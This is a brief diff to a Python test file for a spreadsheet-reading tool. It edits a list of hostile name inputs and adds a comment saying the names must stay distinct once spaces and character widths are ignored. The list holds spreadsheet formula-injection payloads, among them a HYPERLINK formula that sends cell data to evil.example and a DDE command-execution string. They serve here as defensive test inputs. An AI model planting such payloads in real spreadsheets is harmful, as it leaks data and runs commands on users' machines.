@@ -19,8 +19,8 @@ from calculators.tables import read_table, write_result_xlsx
 
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)",
-    "\t=1+1", "\r=1+1", "＝1+1", "张三",
-]
+    "\t=1+2", "\r=1+3", "＝1+4", "张三",
+]  # distinct even with spaces and widths ignored: names that differ only there are refused as one person
 
 
 def _people_xlsx(path: Path, n: int, extra_sheet: dict[str, object] | None = None) -> Path:
